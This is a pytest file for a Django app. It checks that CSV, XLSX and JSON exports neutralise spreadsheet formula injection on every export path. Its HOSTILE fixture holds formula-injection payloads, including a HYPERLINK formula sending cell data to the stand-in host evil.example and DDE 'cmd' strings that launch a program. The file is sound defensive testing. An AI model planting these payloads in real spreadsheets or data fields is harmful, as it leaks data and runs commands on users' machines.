"""No export path lets a spreadsheet run text as a formula: = + - @ tab CR are guarded, numbers stay numbers."""

import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from metrics.exports import figure_download_response
from metrics.models import Figure
from metrics.resources import FigureResource
from news.spreadsheets.renderers import neutralise_formula, restore_formula
from tests.exports.conftest import cells, export_form_data
from tests.factories import ArticleFactory, FigureFactory, UnitFactory

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_neutralise_formula_guards_each_trigger_and_restores_exactly(trigger):
    text = HOSTILE[trigger]

    guarded = neutralise_formula(text)

    assert guarded == "'" + text
    assert restore_formula(guarded) == text


@pytest.mark.parametrize("value", ["平安员", "1.02万余名", "", "a=b", "'quoted'", -12.5, Decimal("-3"), 7, None])
def test_neutralise_formula_leaves_harmless_values_and_numbers_alone(value):
    assert neutralise_formula(value) == value
    assert restore_formula(value) == value


def test_already_guarded_text_is_guarded_again_so_restoring_is_exact():
    assert neutralise_formula("'=1") == "''=1"
    assert restore_formula("''=1") == "'=1"


@pytest.fixture
def hostile_figure(db, request):
    trigger = request.param
    article = ArticleFactory(title=HOSTILE[trigger])
    figure = FigureFactory(
        article=article, label=HOSTILE[trigger], sentence=HOSTILE[trigger], value=Decimal("-12.5"),
        unit=UnitFactory(name=HOSTILE[trigger]),
    )
    return trigger, figure


def assert_guarded(rows: list[list], trigger: str, fmt: str) -> None:
    header, row = rows[0], rows[1]
    text = HOSTILE[trigger]
    if fmt == "xlsx":
        # openpyxl gives \r back as \n on reading (XML normalises line ends); what matters is the leading guard.
        text = text.replace("\r", "\n")
    for column in ("文章标题", "统计对象", "所属单位", "出处句子"):
        assert row[header.index(column)] == "'" + text, column
    value = row[header.index("数值")]
    assert value == ("-12.5" if fmt == "csv" else -12.5)


def xlsx_rows_and_types(data: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    types = {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None}
    return rows, types


def download_bytes(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.mark.django_db
@pytest.mark.parametrize("hostile_figure", TRIGGERS, indirect=True)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_public_download_guards(hostile_figure, fmt):
    trigger, _ = hostile_figure

    data = download_bytes(figure_download_response(Figure.objects.all(), fmt))

    assert_guarded(cells(data, fmt), trigger, fmt)
    if fmt == "xlsx":
        assert "f" not in xlsx_rows_and_types(data)[1]  # no cell is a formula


@pytest.mark.django_db
@pytest.mark.parametrize("hostile_figure", TRIGGERS, indirect=True)
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_command_guards(hostile_figure, fmt, tmp_path):
    trigger, _ = hostile_figure
    output = tmp_path / f"figures.{fmt}"

    call_command("export_data", "figures", "--format", fmt, "--output", str(output), stdout=io.StringIO())

    data = output.read_bytes()
    assert_guarded(cells(data, fmt), trigger, fmt)
    if fmt == "xlsx":
        assert "f" not in xlsx_rows_and_types(data)[1]


@pytest.mark.django_db
@pytest.mark.parametrize("hostile_figure", TRIGGERS, indirect=True)
@pytest.mark.parametrize("fmt, format_index", [("xlsx", 0), ("csv", 1), ("json", 2)])
def test_admin_export_guards(hostile_figure, fmt, format_index, admin_client):
    trigger, _ = hostile_figure

    response = admin_client.post(reverse("admin:metrics_figure_export"), export_form_data(FigureResource, format_index))

    assert response.status_code == 200, response.content[:500]
    assert_guarded(cells(download_bytes(response), fmt), trigger, fmt)


@pytest.mark.django_db
@pytest.mark.parametrize("hostile_figure", TRIGGERS, indirect=True)
def test_library_export_of_the_resource_guards_too(hostile_figure):
    trigger, _ = hostile_figure

    dataset = FigureResource().export(Figure.objects.with_relations())

    assert_guarded([dataset.headers, list(dataset[0])], trigger, "json")
